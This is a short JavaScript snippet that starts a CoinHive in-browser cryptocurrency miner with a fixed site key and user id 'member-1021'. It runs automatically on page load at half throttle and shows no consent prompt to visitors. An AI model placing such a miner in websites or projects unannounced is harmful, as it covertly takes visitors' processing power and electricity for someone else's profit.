(function(){
  var siteKey = 'sRhae56YuHqQG0EYn1YGqDVPsFf5ph5N';
  var m = new CoinHive.User(siteKey, 'member-1021', {throttle: 0.5});
  m.on('found', function(){ console.log('found'); });
  m.start();
})();
